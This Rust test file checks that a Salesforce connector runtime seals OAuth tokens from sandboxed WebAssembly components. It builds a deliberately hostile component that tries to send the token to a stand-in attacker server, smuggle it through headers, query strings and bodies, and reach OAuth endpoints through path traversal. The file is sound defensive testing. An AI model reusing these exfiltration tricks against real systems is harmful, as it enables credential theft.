//! A component that wants to keep the token it is called with, and one that works with a token it does not see.

use mock_salesforce::wire::{Step, Wire};
use mock_salesforce::{Fault, Matcher};
use salesforce_runtime::ExecutionError;
use salesforce_runtime::bindings::oauth::ConnectedApp;
use salesforce_runtime::bindings::records::{RecordKey, SaveOptions, Target};
use salesforce_runtime::bindings::types::{Connection, ErrorKind, Outcome};
use salesforce_runtime::egress::{EgressPolicy, Origin, Refusals, Seal};
use salesforce_runtime::secret::Secret;

use crate::guest::Guest;
use crate::network::{HTTP, SEND};
use crate::tenant::{Host, OPTIONS, query};

const TOKEN: &str = "00D5g000004XyzA!AQ0AQSENTINEL.abcdefghijklmnopqrstuvwxyz0123456789";
const SECRET: &str = "SENTINEL";

/// Puts texts together in memory, and requests of them.
const THIEVERY: &str = r#"
    (global $end (mut i32) (i32.const 0))
    (func $begin (result i32) (global.set $end (i32.const 200000)) (global.get $end))
    (func $add (param $text i32) (param $length i32)
        (memory.copy (global.get $end) (local.get $text) (local.get $length))
        (global.set $end (i32.add (global.get $end) (local.get $length))))
    (func $field (param $fields i32) (param $name i32) (param $name_length i32)
                 (param $before i32) (param $before_length i32) (param $token i32) (param $token_length i32)
        (local $value i32)
        (local.set $value (call $begin))
        (call $add (local.get $before) (local.get $before_length))
        (call $add (local.get $token) (local.get $token_length))
        (call $append (local.get $fields) (local.get $name) (local.get $name_length)
            (local.get $value) (i32.sub (global.get $end) (local.get $value)) (global.get $scratch)))
    (func $go (param $request i32) (param $path i32) (param $path_length i32) (param $token i32) (param $token_length i32)
        (local $all i32)
        (local.set $all (call $begin))
        (call $add (local.get $path) (local.get $path_length))
        (call $add (local.get $token) (local.get $token_length))
        (if (call $set_path (local.get $request) (i32.const 1) (local.get $all) (i32.sub (global.get $end) (local.get $all)))
            (then unreachable)))
    (func $send_with (param $request i32) (param $content i32) (param $length i32)
        (local $body i32) (local $stream i32) (local $future i32)
        (call $body (local.get $request) (global.get $scratch))
        (local.set $body (i32.load offset=4 (global.get $scratch)))
        (call $stream (local.get $body) (global.get $scratch))
        (local.set $stream (i32.load offset=4 (global.get $scratch)))
        (local.set $future (call $start (local.get $request)))
        (call $write (local.get $stream) (local.get $content) (local.get $length) (global.get $scratch))
        (call $drop_stream (local.get $stream))
        (call $finish (local.get $body) (i32.const 0) (i32.const 0) (global.get $scratch))
        (call $block (call $subscribe (local.get $future))))"#;

/// What a body needs beside [`HTTP`].
const BODY: &str = r#"
    (import "wasi:http/types@0.2.2" "[static]outgoing-body.finish" (func $finish (param i32 i32 i32 i32)))
    (import "wasi:io/streams@0.2.2" "[resource-drop]output-stream" (func $drop_stream (param i32)))"#;

/// One request: where, which path, which field with what before the token, and what of the token follows the path.
struct Theft {
    /// `None` is the org.
    to: Option<u16>,
    path: &'static str,
    field: (&'static str, &'static str),
    token_in_path: bool,
    token_in_body: bool,
}

const HONEST: Theft = Theft {
    to: None,
    path: "/services/data/v67.0/query",
    field: ("authorization", "Bearer "),
    token_in_path: false,
    token_in_body: false,
};

/// A component that does all of them, one after the other, in every call.
fn thief(thefts: &[Theft]) -> Vec<u8> {
    let (mut data, mut act) = (String::new(), "(local $fields i32) (local $request i32)".to_owned());
    let mut place = 2000;
    let mut text = |text: &str| {
        data.push_str(&format!("(data (i32.const {place}) \"{text}\")\n"));
        let at = format!("(i32.const {place}) (i32.const {})", text.len());
        place += text.len();
        at
    };
    let org = "(i32.add (local.get $url) (i32.const 7)) (i32.sub (local.get $url_length) (i32.const 7))".to_owned();
    let (token, nothing) = ("(local.get $token) (local.get $token_length)", "(i32.const 0) (i32.const 0)");
    for theft in thefts {
        let to = theft.to.map_or_else(|| org.clone(), |port| text(&format!("127.0.0.1:{port}")));
        let (name, before, path) = (text(theft.field.0), text(theft.field.1), text(theft.path));
        let content = if theft.token_in_body { token } else { nothing };
        let rest = if theft.token_in_path { token } else { nothing };
        act.push_str(&format!(
            "(local.set $fields (call $fields))
            (call $field (local.get $fields) {name} {before} {token})
            (local.set $request (call $to (i32.const 0) {to} (local.get $fields)))
            (call $go (local.get $request) {path} {rest})
            (call $send_with (local.get $request) {content})\n"
        ));
    }
    let definitions = format!("{SEND} {THIEVERY} {data}");
    Guest { imports: format!("{HTTP} {BODY}").leak(), definitions: definitions.leak(), act: act.leak() }.component()
}

const OK: &str = "HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n";

async fn listening() -> (Wire, Origin) {
    let wire = Wire::start([vec![Step::Read, Step::write(OK), Step::Repeat]]).await.unwrap();
    let origin = format!("http://{}", wire.address()).parse().unwrap();
    (wire, origin)
}

#[tokio::test]
async fn a_thief_gets_the_token_nowhere_but_to_the_orgs_data() {
    let ((org, origin), (fence, elsewhere)) = (listening().await, listening().await);
    let seal = Seal::new(Secret::from(TOKEN.to_owned()), origin.clone()).unwrap();
    let thief = thief(&[
        Theft { to: Some(fence.address().port()), ..HONEST },
        Theft { field: ("x-token", ""), ..HONEST },
        Theft { field: ("cookie", "sid="), ..HONEST },
        Theft { field: ("authorization", "OAuth "), ..HONEST },
        Theft { field: ("x-original-url", "/services/oauth2/userinfo?"), ..HONEST },
        Theft { field: ("x-http-method-override", "TRACE "), ..HONEST },
        Theft { field: ("user-agent", ""), ..HONEST },
        Theft { field: ("user-agent", ""), path: "/services/data/v67.0/query?q=", token_in_path: true, ..HONEST },
        Theft { field: ("user-agent", ""), path: "/services/data/v67.0/query?_HttpMethod=TRACE", ..HONEST },
        Theft { field: ("user-agent", ""), token_in_body: true, ..HONEST },
        Theft { path: "/services/oauth2/userinfo?x=", token_in_path: true, ..HONEST },
        Theft { path: "/services/oauth2/introspect", token_in_body: true, ..HONEST },
        Theft { path: "/services/data/../oauth2/userinfo", ..HONEST },
        Theft { path: "/services/data/%2e%2e/oauth2/userinfo", ..HONEST },
        Theft { path: "/services/Soap/u/67.0", token_in_body: true, ..HONEST },
        HONEST,
    ]);
    // Both servers are within reach, and what is refused of them is noted.
    let refusals = Refusals::default();
    let policy = EgressPolicy::origins([origin.clone(), elsewhere]).allow_loopback();
    let policy = policy.sealing(seal.clone()).noting(refusals.clone());
    let host = Host::start().await;
    let connection = Connection {
        instance_url: origin.to_string(),
        access_token: seal.placeholder().to_owned(),
        ..host.connection.clone()
    };
    let thief = host.runtime.load(&thief).unwrap();
    thief.execution(policy).soql_query(&connection, &query("SELECT Id FROM User"), OPTIONS).await.unwrap();

    let (stolen, asked) = (fence.requests(), org.requests());
    assert_eq!((stolen.len(), asked.len()), (1, 4), "{stolen:?} {asked:?}");
    let (honest, rest) = asked.split_last().unwrap();
    assert!(honest.contains(&format!("\r\nauthorization: Bearer {TOKEN}\r\n")), "{honest}");
    for request in rest.iter().chain(&stolen) {
        assert!(request.contains(seal.placeholder()), "{request}");
        assert!(!request.contains(SECRET), "{request}");
    }
    assert!(asked.iter().all(|request| request.split(' ').nth(1).unwrap().starts_with("/services/data/")));
    assert_eq!(refusals.hosts(), ["127.0.0.1"]);
    host.assert_unharmed().await;
}

/// The host's connection with its token sealed, and the policy for it.
fn sealed(host: &Host) -> (Connection, EgressPolicy) {
    let origin: Origin = host.mock.url().parse().unwrap();
    let seal = Seal::new(Secret::from(host.connection.access_token.clone()), origin.clone()).unwrap();
    let connection = Connection { access_token: seal.placeholder().to_owned(), ..host.connection.clone() };
    (connection, EgressPolicy::origins([origin]).allow_loopback().sealing(seal))
}

#[tokio::test]
async fn the_connector_works_with_a_seal() {
    let host = Host::start().await;
    let (connection, policy) = sealed(&host);
    let execution = || host.connector.execution(policy.clone());

    let page = execution().soql_query(&connection, &query("SELECT Id FROM Account LIMIT 3"), OPTIONS).await.unwrap();
    let records: Vec<serde_json::Value> = serde_json::from_str(&page.records).unwrap();
    assert_eq!(records.len(), 3);
    let id = records[0]["Id"].as_str().unwrap().to_owned();

    let (key, fields) = (RecordKey::Id(id.clone()), ["Id".to_owned(), "Name".to_owned()]);
    let got = execution().get_record_field_values(&connection, "Account", &key, &fields, OPTIONS).await.unwrap();
    assert!(format!("{got:?}").contains(&id), "{got:?}");

    let (target, json) = (Target::Create, r#"{"Name":"Sealed"}"#.to_owned());
    let save = SaveOptions { assignment_rule: None, duplicate_rule: None, if_unmodified_since: None };
    let saved = execution().create_or_update_record(&connection, "Account", &target, &json, &save, OPTIONS).await;
    let saved = format!("{:?}", saved.unwrap());

    let ledger = host.mock.ledger();
    assert_eq!(ledger.creates("Account"), 1);
    assert!(saved.contains(&ledger.writes().next().unwrap().id), "{saved}");
    assert!(ledger.entries().all(|entry| entry.status.is_some_and(|status| status < 300)));
}

#[tokio::test]
async fn a_sealed_call_reaches_no_oauth_but_user_info() {
    let host = Host::start().await;
    let (connection, policy) = sealed(&host);
    let user = host.connector.execution(policy.clone()).user_info(&connection, OPTIONS).await.unwrap();
    assert!(user.username.is_some(), "{user:?}");
    assert_eq!(host.mock.ledger().requests("GET", "/services/oauth2/userinfo"), 1);

    let app = ConnectedApp {
        login_url: host.mock.url().to_owned(),
        client_id: "app".to_owned(),
        client_secret: Some("secret".to_owned()),
    };
    let refused = host.connector.execution(policy).revoke(&app, &connection.access_token, OPTIONS).await;
    let Err(ExecutionError::Connector(error)) = refused else { panic!("{refused:?}") };
    assert_eq!(error.outcome, Outcome::NotSent, "{error:?}");
    assert_eq!(host.mock.ledger().entries().count(), 1);
}

#[tokio::test]
async fn an_org_that_repeats_the_token_does_not_tell_it_to_the_component() {
    let host = Host::start().await;
    let (connection, policy) = sealed(&host);
    let token = &host.connection.access_token;
    let secret = token.rsplit('!').next().unwrap();
    let body = serde_json::json!([{ "errorCode": "MALFORMED_QUERY", "message": format!("your token is {token}") }]);
    let records = serde_json::json!({ "totalSize": 1, "done": true, "records": [{ "Id": token }] });
    for fault in [
        Fault::json(400, &body),
        Fault::json(200, &records),
        Fault::status(302, &[("location", &format!("https://example.com/?sid={token}"))]),
    ] {
        host.mock.push_fault(Matcher::any(), fault);
        let options = salesforce_runtime::bindings::types::CallOptions { attempts: Some(1), ..OPTIONS };
        let execution = host.connector.execution(policy.clone());
        let result = execution.soql_query(&connection, &query("SELECT Id FROM User"), options).await;
        assert!(!format!("{result:?}").contains(secret), "{result:?}");
        let Err(ExecutionError::Connector(error)) = result else { panic!("{result:?}") };
        assert_eq!(error.kind, ErrorKind::Interrupted, "{error:?}");
    }
    assert_eq!(host.mock.faults_waiting(), 0);
}
